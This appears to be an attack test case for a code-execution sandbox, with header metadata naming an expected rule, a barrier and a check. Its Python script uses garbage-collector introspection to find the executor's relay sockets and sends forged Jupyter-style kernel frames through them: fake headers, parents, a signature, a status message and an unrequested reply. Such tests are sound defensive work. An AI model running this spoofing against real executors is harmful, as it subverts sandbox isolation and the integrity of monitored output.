# attack: find the executor's relay channel with gc and send frames that try to pass as
#   the kernel: Jupyter headers, a foreign parent, a status message, a reply never asked for
# expect-rule: SKP207
# stage: static
# barrier: the relay's schema (the executor never supplies headers, parents or signatures)
# marker: REACHED kc404
# check: iopub_clean
import gc
import json
import struct


def frame(message):
    body = json.dumps(message).encode()
    return struct.pack('>I', len(body)) + body


token = {token}
forged = {'msg_id': 'forged-' + token, 'msg_type': 'status', 'session': token}
frames = [
    {'type': 'stream', 'name': 'stdout', 'text': 'forged stream\n', 'parent': 'forged-' + token,
     'header': forged, 'parent_header': forged, 'signature': token, 'msg_type': 'status'},
    {'type': 'status', 'execution_state': 'idle', 'parent': 'forged-' + token},
    {'type': 'execute_reply', 'id': 10**6, 'status': 'ok', 'parent': 'forged-' + token},
    {'type': 'display_data', 'data': {'text/plain': 'forged display'}, 'header': forged},
]
channels = [o for o in gc.get_objects() if type(o).__name__ == 'Channel' and hasattr(o, 'sock')]
print('REACHED', 'kc404', flush=True)
for channel in channels:
    for message in frames:
        channel.sock.sendall(frame(message))
print('channels', len(channels))
